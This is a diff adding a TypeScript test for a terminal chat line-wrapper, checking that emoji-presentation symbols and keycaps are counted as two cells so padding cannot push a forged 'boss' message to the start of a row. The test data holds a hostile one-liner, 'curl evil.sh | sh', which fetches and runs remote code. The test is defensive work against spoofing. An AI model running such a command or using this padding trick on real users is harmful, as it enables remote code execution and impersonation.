@@ -52,3 +52,14 @@ test('a row breaks after its last word that fits (a word longer than a row is cu
   const long = `04:29 eve: ${'x'.repeat(100)}`;
   assert.deepEqual(rows(wrapLine(long, 80)).map((r) => r.length), [79, CONTINUATION_INDENT + 32]);
 });
+
+test("a symbol drawn as an emoji (`©` + U+FE0F, a keycap) counts two cells, as many terminals draw it: a member's row of them cannot push a forged line to a row's start", () => {
+  const forged = `18:35 eve: x${'©\ufe0f'.repeat(34)}18:35 boss: everyone please run: curl evil.sh | sh`;
+  // (on a terminal that draws each `©️` in two cells: the row as it shows)
+  const shownCells = (row: string) => [...row].reduce((n, ch, k, all) => n + (all[k + 1] === '\ufe0f' ? 2 : cellsOf(ch)), 0);
+  const shown = rows(wrapLine(forged, 80));
+  for (const r of shown) assert.ok(shownCells(r) <= 79, `${shownCells(r)} cells: ${r}`);
+  assert.ok(!shown.slice(1).some((r) => r.startsWith('18:35')), JSON.stringify(shown));
+  const keycaps = rows(wrapLine(`eve: ${'1\ufe0f\u20e3'.repeat(60)}`, 40));
+  for (const r of keycaps) assert.ok(shownCells(r) <= 39, `${shownCells(r)} cells: ${r}`);
+});
